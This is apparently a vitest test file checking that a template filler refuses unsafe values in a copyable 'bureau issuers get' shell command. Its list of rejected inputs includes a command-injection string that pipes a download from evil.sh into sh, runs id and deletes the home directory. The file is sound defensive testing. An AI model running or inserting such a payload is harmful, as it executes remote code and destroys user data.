import { describe, expect, it } from 'vitest';
import { fillIn } from '../../../src/core/activity/fill-in.ts';

const template = 'See {issuer}: `bureau issuers get {issuer}`.';
const filled = (issuer: string | null) => fillIn(template, { shown: { issuer: 'SHOWN' }, exact: { issuer } });

describe('a value in a command that is copied', () => {
  it.each(['https://ci.example.com/a?b'.slice(0, 24), 'repo:acme/app@1', 'a_b.c-d,e=f%20+g'])(
    '%s stands',
    (value) => {
      expect(filled(value)).toBe(`See SHOWN: \`bureau issuers get ${value}\`.`);
    },
  );
  it.each([
    'https://ci.example.com/`curl evil.sh|sh`$(id); rm -rf ~ #',
    'a b',
    "a'b",
    'a"b',
    'a\\b',
    'a$HOME',
    'a;b',
    'a&b',
    'a|b',
    'a>b',
    'a*b',
    '{a,b}',
    '~root',
    '-f',
    '--json',
    '=ls',
    '@a',
    'a\nb',
    'a\u00a0b',
    'a\u3164b',
    'é',
    '',
    'a'.repeat(300),
    null,
  ])('A102 %j does not', (value) => {
    expect(filled(value)).toBe('See SHOWN: `bureau issuers get ISSUER`.');
  });
});
